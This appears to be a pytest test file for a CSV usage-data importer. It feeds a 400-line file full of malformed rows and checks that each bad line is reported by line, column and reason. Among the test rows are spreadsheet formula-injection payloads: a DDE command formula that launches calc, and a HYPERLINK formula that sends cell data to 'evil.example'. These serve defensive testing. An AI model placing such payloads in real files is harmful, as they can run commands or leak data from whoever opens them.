"""A file of 400 lines with everything wrong that files have: each bad line is named, the good ones are in."""

from pathlib import Path

import pytest

from tenure.ingest import queries
from tenure.ingest.tests.importing import ACCOUNTS, counts, run, source_map, standing, write

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("workspace")]

WANTED = source_map(
    accounts=ACCOUNTS,
    usage={
        "file": "usage.csv",
        "events": {
            "key": "id", "account": "account", "at": "day", "name": "what", "count": "n",
            "properties": {"note": "note"},
        },
    },
)  # fmt: skip
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
BROKEN: dict[int, tuple[bytes, str, str]] = {
    20: (b"e20,A,2024-02-30,login,1,", "day", "expected a date (YYYY-MM-DD), found “2024-02-30”"),
    45: (b"e45,A,31.12.2024,login,1,", "day", "expected a date (YYYY-MM-DD), found “31.12.2024”"),
    70: (b"e70,A,,login,1,", "day", "is empty"),
    95: (b",A,2024-03-01,login,1,", "id", "is empty"),
    120: (b"e120,,2024-03-01,login,1,", "account", "is empty"),
    145: (b"e145,Z,2024-03-01,login,1,", "account", "there is no account “Z”"),
    170: (b"e170,A,2024-03-01,login,=1+1,", "n", "a formula where a number is expected; nothing in a file is computed"),
    195: (
        b"=cmd|'/C calc'!A0,A,2024-03-01,login,1,",
        "id",
        "a formula where an id is expected; nothing in a file is computed",
    ),
    220: (b"e220,A,2024-03-01,login,many,", "n", "expected a number, found “many”"),
    245: (b"e245,A,2024-03-01,login,-1,", "n", "expected 0 or more, found -1"),
    270: (b"e270,A,2024-03-01,login", "", "4 cells where the header has 6"),
    295: (b"e295,A,2024-03-01,login,1,x,y", "", "7 cells where the header has 6"),
    320: (b"e320,A,2024-03-01,login,1,\x81\x8d", "", "the bytes are neither UTF-8 nor cp1252"),
    345: (b'e345,A,2024-03-01,login,1,"never closed', "", "a quotation mark is opened and never closed"),
    370: (b"e370,A,0024-03-01,login,1,", "day", "the year 24 cannot be right"),
    400: (b'e400,A,2024-03-01,login,1,"the file ends in the mid', "", "a quotation mark is opened and never closed"),
}
ODD_BUT_GOOD = {
    30: b"e30,B,2024-03-01,login,2,caf\xe9 in Windows-1252",
    31: "e31,B,2024-03-01,login,2,café in UTF-8".encode(),
    32: b'e32,B,2024-03-01,login,2,"=HYPERLINK(""http://evil.example/?""&A1,""click"")"',
    33: b'e33,B,2024-03-01,login,2,24" screen',
    34: b" e34 , B , 2024-03-01T10:00:00Z , login , 2 , ",
}


def messy_file() -> bytes:
    """Line 1 is the header; the last line has no end."""
    lines = [b"id,account,day,what,n,note"]
    for number in range(2, 401):
        if number in BROKEN:
            lines.append(BROKEN[number][0])
        else:
            lines.append(ODD_BUT_GOOD.get(number, f"e{number},A,2024-03-{number % 28 + 1:02d},login,1,".encode()))
    return b"\n".join(lines)


def test_each_bad_line_is_named_and_the_good_ones_are_imported(tmp_path: Path) -> None:
    accounts = "id,name,since\nA,Ada,2024-01-01\nB,Bob,2024-01-01\n"
    folder = write(tmp_path / "in", {"accounts.csv": accounts, "usage.csv": messy_file()})
    report = run(folder, WANTED)
    assert counts(report)["usage.csv"] == (399, 383, 0, 0, 16)
    assert report.files[1].warnings == {"read as cp1252": 1}
    assert report.run is not None
    found = queries.rejects(report.run, file="usage.csv", limit=100).rejects
    assert [(r.line, r.column, r.reason) for r in found] == [(line, c, why) for line, (_, c, why) in BROKEN.items()]
    raw = {r.line: r.raw for r in found}
    assert raw[170] == "e170,A,2024-03-01,login,=1+1,"
    assert raw[400] == 'e400,A,2024-03-01,login,1,"the file ends in the mid'
    notes = [note for note, count in standing("e.properties->>'$.note', e.count") if count == 2]
    assert notes == ['24" screen', FORMULA, "café in UTF-8", "café in Windows-1252", None]
    assert counts(run(folder, WANTED))["usage.csv"] == (399, 0, 0, 383, 16)
